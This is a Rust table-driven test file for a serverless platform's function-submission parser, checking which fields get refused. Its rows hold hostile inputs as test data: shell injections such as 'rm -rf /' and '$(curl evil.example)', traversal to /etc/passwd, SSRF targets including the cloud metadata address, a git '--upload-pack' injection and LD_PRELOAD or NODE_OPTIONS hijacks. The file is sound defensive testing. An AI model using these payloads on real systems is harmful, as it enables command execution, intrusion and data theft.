//! The parser's validation, table-driven: each row is a submission and the exact fields its
//! problems name (empty = valid). Covers names, runtimes, handler forms and injection, inline
//! path traversal, sizes, S3 and git sources with SSRF hosts, env, resources, scaling and
//! trigger filters.

use klambda_events::EventType as _;
use klambda_events::catalogue::FunctionCreated;
use klambda_events::spec::{FunctionSubmission, Source};
use parser::{Limits, parse};
use serde_json::{Value, json};

fn node() -> Value {
    json!({
        "name": "hello",
        "runtime": "nodejs22",
        "handler": "index.handler",
        "source": {"kind": "inline", "files": [{"path": "index.js", "content": "exports.handler = async () => 1;"}]}
    })
}

/// `node()` with `field` (a dotted path) set to `value`.
fn with(field: &str, value: Value) -> Value {
    let mut doc = node();
    let mut at = &mut doc;
    let parts: Vec<&str> = field.split('.').collect();
    for part in &parts[..parts.len() - 1] {
        at = &mut at[*part];
    }
    at[parts[parts.len() - 1]] = value;
    doc
}

fn git(url: &str) -> Value {
    with("source", json!({"kind": "git", "url": url, "ref": "main"}))
}

fn archive(url: &str, sha256: &str) -> Value {
    with(
        "source",
        json!({"kind": "archive", "url": url, "sha256": sha256}),
    )
}

const SHA: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

fn s3(url: &str) -> Value {
    with("source", json!({"kind": "s3", "url": url}))
}

fn files(list: Value) -> Value {
    with("source", json!({"kind": "inline", "files": list}))
}

fn env(name: &str, value: &str) -> Value {
    with("env", json!({ name: value }))
}

fn trigger(t: Value) -> Value {
    with("triggers", json!([t]))
}

/// Runs one row: the submission must be valid when `fields` is empty, otherwise refused with
/// problems naming exactly `fields`.
fn check(name: &str, submission: Value, fields: &[&str]) {
    let submission: FunctionSubmission = match serde_json::from_value(submission) {
        Ok(s) => s,
        Err(e) => panic!("{name}: the row is not a well-formed submission: {e}"),
    };
    let mut actual: Vec<String> = match parse(submission, &Limits::default()) {
        Ok(_) => Vec::new(),
        Err(problems) => {
            for p in &problems {
                assert!(
                    !p.reason.is_empty(),
                    "{name}: problem at {} has no reason",
                    p.field
                );
            }
            problems.into_iter().map(|p| p.field).collect()
        }
    };
    actual.sort();
    let mut expected: Vec<String> = fields.iter().map(|f| f.to_string()).collect();
    expected.sort();
    assert_eq!(actual, expected, "{name}");
}

#[test]
fn submissions() {
    let big = "x".repeat(600 * 1024);
    let many: Vec<Value> = (0..1001)
        .map(|i| json!({"path": format!("f{i}.js"), "content": ""}))
        .collect();
    let rows: Vec<(&str, Value, &[&str])> = vec![
        // Valid.
        ("minimal node", node(), &[]),
        (
            "python package handler",
            json!({"name": "py", "runtime": "python3.12", "handler": "pkg.app.handler",
            "source": {"kind": "inline", "files": [{"path": "pkg/app.py", "content": "def handler(e, c): return e"}]}}),
            &[],
        ),
        (
            "node .mjs module",
            files(json!([{"path": "index.mjs", "content": "export const handler = 1"}])),
            &[],
        ),
        (
            "node nested module",
            with("handler", json!("src/app.main")).pipe(|d| {
                set(
                    d,
                    "source",
                    json!({"kind": "inline", "files": [{"path": "src/app.js", "content": ""}]}),
                )
            }),
            &[],
        ),
        (
            "go from git",
            json!({"name": "go-fn", "runtime": "go1.24", "handler": "Handle", "source": {"kind": "git", "url": "https://github.com/example/fn.git", "ref": "v1.2.3"}}),
            &[],
        ),
        (
            "go inline with its module",
            json!({"name": "go-in", "runtime": "go1.25", "handler": "Handler", "source": {"kind": "inline", "files": [
                {"path": "go.mod", "content": "module example.com/go-in\n\ngo 1.25\n"},
                {"path": "handler.go", "content": "package handler\n"}]}}),
            &[],
        ),
        ("s3 prefix", s3("s3://my.bucket-1/sources/hello/"), &[]),
        (
            "https archive pinned by sha256",
            archive("https://downloads.example.com/fn-1.2.3.tar.gz", SHA),
            &[],
        ),
        (
            "https archive, sha256 in capitals",
            archive("https://downloads.example.com/fn.zip", &SHA.to_uppercase()),
            &[],
        ),
        (
            "git commit ref",
            with(
                "source",
                json!({"kind": "git", "url": "https://gitlab.example.com/a/b", "ref": "3f2a9c1e0b7d"}),
            ),
            &[],
        ),
        (
            "env names",
            with(
                "env",
                json!({"GREETING": "hi", "_private": "1", "db_url": "postgres://x"}),
            ),
            &[],
        ),
        (
            "resources at bounds",
            with(
                "resources",
                json!({"memoryMib": 10240, "cpuMillis": 50, "timeoutSeconds": 900}),
            ),
            &[],
        ),
        (
            "scaling min = max",
            with(
                "scaling",
                json!({"minScale": 3, "maxScale": 3, "concurrency": 0}),
            ),
            &[],
        ),
        (
            "scale to zero after one second",
            with("scaling", json!({"scaleToZeroAfterSeconds": 1})),
            &[],
        ),
        (
            "trigger on type and source",
            trigger(
                json!({"attributes": {"type": "com.example.order.created", "source": "/shop"}}),
            ),
            &[],
        ),
        (
            "dot segments normalised",
            files(
                json!([{"path": "./src//util.js", "content": ""}, {"path": "./index.js", "content": ""}]),
            ),
            &[],
        ),
        (
            "base64 content",
            files(
                json!([{"path": "index.js", "content": "ZXhwb3J0cy5oYW5kbGVyPTE=", "encoding": "base64"}]),
            ),
            &[],
        ),
        ("unknown field kept", with("team", json!("payments")), &[]),
        (
            "63-character name",
            with("name", json!("a".repeat(63))),
            &[],
        ),
        // Names and runtimes.
        ("uppercase name", with("name", json!("Hello")), &["name"]),
        (
            "64-character name",
            with("name", json!("a".repeat(64))),
            &["name"],
        ),
        ("empty name", with("name", json!("")), &["name"]),
        (
            "underscore in name",
            with("name", json!("hello_world")),
            &["name"],
        ),
        (
            "unknown runtime version",
            with("runtime", json!("nodejs8")),
            &["runtime"],
        ),
        (
            "unknown language",
            with("runtime", json!("java21")),
            &["runtime"],
        ),
        (
            "injection checked even for an unknown runtime",
            with("runtime", json!("java21")).pipe(|d| set(d, "handler", json!("Main;id"))),
            &["runtime", "handler"],
        ),
        // Handler form and injection.
        (
            "handler command injection",
            with("handler", json!("index.handler; rm -rf /")),
            &["handler"],
        ),
        (
            "handler substitution",
            with("handler", json!("$(curl evil.example)")),
            &["handler"],
        ),
        (
            "handler backtick",
            with("handler", json!("index.`id`")),
            &["handler"],
        ),
        (
            "handler pipe",
            with("handler", json!("index.handler|sh")),
            &["handler"],
        ),
        (
            "handler space",
            with("handler", json!("index handler")),
            &["handler"],
        ),
        (
            "handler newline",
            with("handler", json!("index.handler\nid")),
            &["handler"],
        ),
        (
            "node handler without export",
            with("handler", json!("index")),
            &["handler"],
        ),
        (
            "node handler traversal",
            with("handler", json!("../../etc/passwd.x")),
            &["handler"],
        ),
        (
            "node handler file missing",
            with("handler", json!("main.handler")),
            &["handler"],
        ),
        (
            "python handler single part",
            json!({"name": "py", "runtime": "python3.12", "handler": "app",
            "source": {"kind": "inline", "files": [{"path": "app.py", "content": ""}]}}),
            &["handler"],
        ),
        (
            "python module missing",
            json!({"name": "py", "runtime": "python3.12", "handler": "app.handler",
            "source": {"kind": "inline", "files": [{"path": "main.py", "content": ""}]}}),
            &["handler"],
        ),
        (
            "rust from s3",
            json!({"name": "rs", "runtime": "rust1", "handler": "handler", "source": {"kind": "s3", "url": "s3://my-bucket/fns/rs.tar.gz"}}),
            &[],
        ),
        (
            "rust inline without Cargo.toml",
            json!({"name": "rs", "runtime": "rust1", "handler": "handler", "source": {"kind": "inline", "files": [
                {"path": "src/lib.rs", "content": "pub async fn handler() {}\n"}]}}),
            &["handler"],
        ),
        (
            "rust handler a keyword",
            json!({"name": "rs", "runtime": "rust1", "handler": "fn", "source": {"kind": "s3", "url": "s3://bkt/k"}}),
            &["handler"],
        ),
        (
            "go inline without go.mod",
            json!({"name": "g", "runtime": "go1.24", "handler": "Handler", "source": {"kind": "inline", "files": [
                {"path": "handler.go", "content": "package handler\n"}]}}),
            &["handler"],
        ),
        (
            "go handler unexported",
            json!({"name": "g", "runtime": "go1.24", "handler": "handle", "source": {"kind": "s3", "url": "s3://bkt/k"}}),
            &["handler"],
        ),
        // Inline paths and sizes.
        (
            "path traversal",
            files(
                json!([{"path": "index.js", "content": ""}, {"path": "../../etc/passwd", "content": "x"}]),
            ),
            &["source.files[1].path"],
        ),
        (
            "traversal mid-path",
            files(
                json!([{"path": "index.js", "content": ""}, {"path": "lib/../../x", "content": ""}]),
            ),
            &["source.files[1].path"],
        ),
        (
            "absolute path",
            files(
                json!([{"path": "index.js", "content": ""}, {"path": "/etc/cron.d/x", "content": ""}]),
            ),
            &["source.files[1].path"],
        ),
        (
            "backslash path",
            files(
                json!([{"path": "index.js", "content": ""}, {"path": "..\\..\\win.ini", "content": ""}]),
            ),
            &["source.files[1].path"],
        ),
        (
            "drive letter",
            files(json!([{"path": "index.js", "content": ""}, {"path": "C:/x.js", "content": ""}])),
            &["source.files[1].path"],
        ),
        (
            "NUL in path",
            files(
                json!([{"path": "index.js", "content": ""}, {"path": "a\u{0}.js", "content": ""}]),
            ),
            &["source.files[1].path"],
        ),
        (
            "duplicate after normalising",
            files(
                json!([{"path": "index.js", "content": ""}, {"path": "./index.js", "content": ""}]),
            ),
            &["source.files[1].path"],
        ),
        ("no files", files(json!([])), &["source.files"]),
        (
            "oversize inline source",
            files(json!([{"path": "index.js", "content": big}])),
            &["source.files"],
        ),
        (
            "bad base64",
            files(json!([{"path": "index.js", "content": "not base64!", "encoding": "base64"}])),
            &["source.files[0].content"],
        ),
        (
            "too many files",
            files(Value::Array(many)),
            &["source.files"],
        ),
        (
            "too deep",
            files(
                json!([{"path": "index.js", "content": ""}, {"path": "a/".repeat(17) + "x.js", "content": ""}]),
            ),
            &["source.files[1].path"],
        ),
        // S3 sources.
        (
            "s3 uppercase bucket",
            s3("s3://MyBucket/key"),
            &["source.url"],
        ),
        ("s3 no key", s3("s3://bucket"), &["source.url"]),
        (
            "s3 key traversal",
            s3("s3://bucket/a/../../etc/passwd"),
            &["source.url"],
        ),
        ("s3 IP bucket", s3("s3://192.168.1.1/key"), &["source.url"]),
        (
            "s3 wrong scheme",
            s3("https://bucket.s3.amazonaws.com/key"),
            &["source.url"],
        ),
        // Archives over https, pinned.
        (
            "archive over http",
            archive("http://downloads.example.com/fn.tar.gz", SHA),
            &["source.url"],
        ),
        (
            "archive without a real sha256",
            archive("https://downloads.example.com/fn.tar.gz", "abc"),
            &["source.sha256"],
        ),
        (
            "archive from the metadata address",
            archive("https://169.254.169.254/latest/fn.tar.gz", "xyz"),
            &["source.url", "source.sha256"],
        ),
        // Git sources and SSRF.
        (
            "git over http",
            git("http://github.com/a/b.git"),
            &["source.url"],
        ),
        (
            "git over ssh, with a user",
            git("ssh://git@github.com/a/b.git"),
            &["source.url", "source.url"],
        ),
        (
            "git file scheme",
            git("file:///etc/passwd"),
            &["source.url", "source.url"],
        ),
        (
            "git localhost",
            git("https://localhost/a.git"),
            &["source.url"],
        ),
        (
            "git loopback",
            git("https://127.0.0.1/a.git"),
            &["source.url"],
        ),
        (
            "git short loopback",
            git("https://127.1/a.git"),
            &["source.url"],
        ),
        (
            "git decimal loopback",
            git("https://2130706433/a.git"),
            &["source.url"],
        ),
        (
            "git hex loopback",
            git("https://0x7f000001/a.git"),
            &["source.url"],
        ),
        (
            "git private 10/8",
            git("https://10.0.0.5/a.git"),
            &["source.url"],
        ),
        (
            "git private 192.168",
            git("https://192.168.0.10:8443/a.git"),
            &["source.url"],
        ),
        (
            "git cloud metadata",
            git("https://169.254.169.254/latest/meta-data"),
            &["source.url"],
        ),
        (
            "git CGNAT",
            git("https://100.64.0.1/a.git"),
            &["source.url"],
        ),
        (
            "git IPv6 loopback",
            git("https://[::1]/a.git"),
            &["source.url"],
        ),
        (
            "git IPv4-mapped IPv6",
            git("https://[::ffff:127.0.0.1]/a.git"),
            &["source.url"],
        ),
        (
            "git IPv6 unique local",
            git("https://[fd00::1]/a.git"),
            &["source.url"],
        ),
        (
            "git cluster service",
            git("https://gitea.git.svc.cluster.local/a.git"),
            &["source.url"],
        ),
        (
            "git kubernetes api",
            git("https://kubernetes.default.svc/api"),
            &["source.url"],
        ),
        (
            "git single label",
            git("https://gitlab/a.git"),
            &["source.url"],
        ),
        (
            "git metadata name",
            git("https://metadata.google.internal/computeMetadata/v1/"),
            &["source.url"],
        ),
        (
            "git credentials",
            git("https://user:token@github.com/a/b.git"),
            &["source.url"],
        ),
        (
            "git option injection ref",
            with(
                "source",
                json!({"kind": "git", "url": "https://github.com/a/b", "ref": "--upload-pack=touch /tmp/x"}),
            ),
            &["source.ref"],
        ),
        (
            "git ref dots",
            with(
                "source",
                json!({"kind": "git", "url": "https://github.com/a/b", "ref": "main..evil"}),
            ),
            &["source.ref"],
        ),
        (
            "git empty ref",
            with(
                "source",
                json!({"kind": "git", "url": "https://github.com/a/b", "ref": ""}),
            ),
            &["source.ref"],
        ),
        // Environment.
        ("env dash in name", env("MY-VAR", "1"), &["env.MY-VAR"]),
        (
            "env name injection",
            env("A;rm -rf /", "1"),
            &["env.A;rm -rf /"],
        ),
        ("env name with =", env("A=B", "1"), &["env.A=B"]),
        ("env leading digit", env("1ABC", "1"), &["env.1ABC"]),
        (
            "env LD_PRELOAD",
            env("LD_PRELOAD", "/tmp/evil.so"),
            &["env.LD_PRELOAD"],
        ),
        (
            "env NODE_OPTIONS",
            env("NODE_OPTIONS", "--require /tmp/evil.js"),
            &["env.NODE_OPTIONS"],
        ),
        (
            "env NODE_PATH",
            env("NODE_PATH", "/tmp"),
            &["env.NODE_PATH"],
        ),
        (
            "env PYTHONPATH",
            env("PYTHONPATH", "/tmp"),
            &["env.PYTHONPATH"],
        ),
        (
            "env PYTHONSTARTUP",
            env("PYTHONSTARTUP", "/tmp/evil.py"),
            &["env.PYTHONSTARTUP"],
        ),
        (
            "env PYTHONHOME",
            env("PYTHONHOME", "/tmp"),
            &["env.PYTHONHOME"],
        ),
        (
            "env BASH_ENV",
            env("BASH_ENV", "/tmp/evil.sh"),
            &["env.BASH_ENV"],
        ),
        (
            "env Knative reserved",
            env("K_SERVICE", "x"),
            &["env.K_SERVICE"],
        ),
        (
            "env platform reserved",
            env("KLAMBDA_SINK", "x"),
            &["env.KLAMBDA_SINK"],
        ),
        ("env NUL value", env("A", "x\u{0}y"), &["env.A"]),
        // Secret env, by reference.
        (
            "secret reference",
            with("secrets", json!({"DB_PASSWORD": "db-password"})),
            &[],
        ),
        (
            "secret name with a path",
            with("secrets", json!({"DB_PASSWORD": "../etc/passwd"})),
            &["secrets.DB_PASSWORD"],
        ),
        (
            "secret name in capitals",
            with("secrets", json!({"DB_PASSWORD": "DbPassword"})),
            &["secrets.DB_PASSWORD"],
        ),
        (
            "secret for a reserved variable",
            with("secrets", json!({"LD_PRELOAD": "lib"})),
            &["secrets.LD_PRELOAD"],
        ),
        (
            "secret variable also in env",
            {
                let mut both = env("TOKEN", "plain");
                both["secrets"] = json!({"TOKEN": "token"});
                both
            },
            &["secrets.TOKEN"],
        ),
        (
            "env oversize value",
            env("A", &"v".repeat(5000)),
            &["env.A"],
        ),
        // Resources, scaling, build.
        (
            "memory too small",
            with("resources", json!({"memoryMib": 64})),
            &["resources.memoryMib"],
        ),
        (
            "timeout too long",
            with("resources", json!({"timeoutSeconds": 901})),
            &["resources.timeoutSeconds"],
        ),
        (
            "negative cpu",
            with("resources", json!({"cpuMillis": -1})),
            &["resources.cpuMillis"],
        ),
        (
            "min above max",
            with("scaling", json!({"minScale": 5, "maxScale": 2})),
            &["scaling"],
        ),
        (
            "scale to zero at once",
            with("scaling", json!({"scaleToZeroAfterSeconds": 0})),
            &["scaling.scaleToZeroAfterSeconds"],
        ),
        (
            "scale to zero after more than an hour",
            with("scaling", json!({"scaleToZeroAfterSeconds": 3601})),
            &["scaling.scaleToZeroAfterSeconds"],
        ),
        (
            "max scale zero",
            with("scaling", json!({"maxScale": 0})),
            &["scaling.maxScale"],
        ),
        (
            "build deadline too short",
            with("build", json!({"timeoutSeconds": 10})),
            &["build.timeoutSeconds"],
        ),
        // Trigger filters.
        (
            "trigger without attributes",
            trigger(json!({"attributes": {}})),
            &["triggers[0].attributes"],
        ),
        (
            "trigger empty value",
            trigger(json!({"attributes": {"type": ""}})),
            &["triggers[0].attributes.type"],
        ),
        (
            "trigger with filters",
            trigger(json!({"attributes": {"type": "x"}, "filters": [{"exact": {"type": "x"}}]})),
            &["triggers[0].filters"],
        ),
        (
            "trigger bad attribute name",
            trigger(json!({"attributes": {"Type": "x"}})),
            &["triggers[0].attributes.Type"],
        ),
        (
            "trigger reply typed as the platform",
            trigger(json!({"attributes": {"type": "x"}, "replyType": FunctionCreated::TYPE})),
            &["triggers[0].replyType"],
        ),
        (
            "trigger reply type with a space",
            trigger(json!({"attributes": {"type": "x"}, "replyType": "com.example priced"})),
            &["triggers[0].replyType"],
        ),
        (
            "trigger in parallel",
            trigger(json!({"attributes": {"type": "x"}, "parallelism": 10})),
            &[],
        ),
        (
            "trigger parallelism of zero",
            trigger(json!({"attributes": {"type": "x"}, "parallelism": 0})),
            &["triggers[0].parallelism"],
        ),
        (
            "trigger parallelism past the RabbitMQ Broker's",
            trigger(json!({"attributes": {"type": "x"}, "parallelism": 1001})),
            &["triggers[0].parallelism"],
        ),
        (
            "duplicate triggers",
            with(
                "triggers",
                json!([{"attributes": {"type": "x"}}, {"attributes": {"type": "x"}}]),
            ),
            &["triggers[1]"],
        ),
        (
            "delivery in Knative's own form",
            with(
                "delivery",
                json!({"retry": 3, "backoffPolicy": "linear", "backoffDelay": "PT0.2S", "timeout": "PT30S"}),
            ),
            &[],
        ),
        (
            "delivery with an unknown backoff policy",
            with("delivery", json!({"backoffPolicy": "random"})),
            &["delivery.backoffPolicy"],
        ),
        (
            "delivery with a duration not in ISO 8601",
            with(
                "delivery",
                json!({"backoffDelay": "200ms", "timeout": "PT"}),
            ),
            &["delivery.backoffDelay", "delivery.timeout"],
        ),
        (
            "delivery retrying without end",
            with("delivery", json!({"retry": 1000000})),
            &["delivery.retry"],
        ),
        (
            "delivery waiting for days",
            with(
                "delivery",
                json!({"backoffDelay": "P2D", "timeout": "PT0S"}),
            ),
            &["delivery.backoffDelay", "delivery.timeout"],
        ),
        (
            "delivery to a dead-letter sink of its own",
            with(
                "delivery",
                json!({"deadLetterSink": {"uri": "http://10.0.0.1/"}}),
            ),
            &["delivery.deadLetterSink"],
        ),
        // Several problems at once: all of them are reported.
        (
            "every problem listed",
            json!({"name": "Bad_Name", "runtime": "cobol", "handler": "x;y",
            "source": {"kind": "git", "url": "https://10.1.2.3/a", "ref": "-x"}, "env": {"PATH": "/x"},
            "scaling": {"minScale": 9, "maxScale": 1}}),
            &[
                "name",
                "runtime",
                "handler",
                "source.url",
                "source.ref",
                "env.PATH",
                "scaling",
            ],
        ),
    ];
    assert!(rows.len() >= 40, "the table must keep at least 40 rows");
    for (name, submission, fields) in rows {
        check(name, submission, fields);
    }
}

trait Pipe: Sized {
    fn pipe(self, f: impl FnOnce(Self) -> Self) -> Self {
        f(self)
    }
}
impl Pipe for Value {}

fn set(mut doc: Value, key: &str, value: Value) -> Value {
    doc[key] = value;
    doc
}

#[test]
fn normalisation_fills_defaults_and_sorts_files() {
    let submission: FunctionSubmission = serde_json::from_value(files(json!([
        {"path": "./lib/util.js", "content": ""},
        {"path": "index.js", "content": "aGk=", "encoding": "base64"}
    ])))
    .unwrap();
    let (spec, _) = parse(submission, &Limits::default()).unwrap();
    let Source::Inline { files } = &spec.source else {
        panic!("inline expected")
    };
    let paths: Vec<&str> = files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(paths, ["index.js", "lib/util.js"]);
    // Text that arrived as base64 is stored as text.
    assert_eq!(files[0].content, "hi");
    assert_eq!(spec.resources.memory_mib, 256);
    assert_eq!(spec.scaling.max_scale, 10);
    assert_eq!(spec.build.timeout_seconds, 900);
}

#[test]
fn the_digest_depends_on_source_and_runtime_only() {
    let digest = |doc: Value| {
        let submission: FunctionSubmission = serde_json::from_value(doc).unwrap();
        parse(submission, &Limits::default()).unwrap().1
    };
    let base = digest(node());
    // Stable across file order, encoding and path spelling.
    let reordered = digest(files(json!([
        {"path": "lib.js", "content": "1"},
        {"path": "index.js", "content": "exports.handler = async () => 1;"}
    ])));
    let reordered_again = digest(files(json!([
        {"path": "./index.js", "content": "ZXhwb3J0cy5oYW5kbGVyID0gYXN5bmMgKCkgPT4gMTs=", "encoding": "base64"},
        {"path": "lib.js", "content": "1"}
    ])));
    assert_eq!(reordered, reordered_again);
    // Deployment settings do not change the image.
    assert_eq!(base, digest(with("env", json!({"A": "1"}))));
    assert_eq!(base, digest(with("scaling", json!({"maxScale": 3}))));
    // Source and runtime do.
    assert_ne!(base, reordered);
    assert_ne!(base, digest(with("runtime", json!("nodejs20"))));
    assert_ne!(
        base,
        digest(files(
            json!([{"path": "index.js", "content": "exports.handler = async () => 2;"}])
        ))
    );
    // A file's name is part of the content.
    assert_ne!(
        digest(files(
            json!([{"path": "index.js", "content": ""}, {"path": "a", "content": "b"}])
        )),
        digest(files(
            json!([{"path": "index.js", "content": ""}, {"path": "ab", "content": ""}])
        ))
    );
}
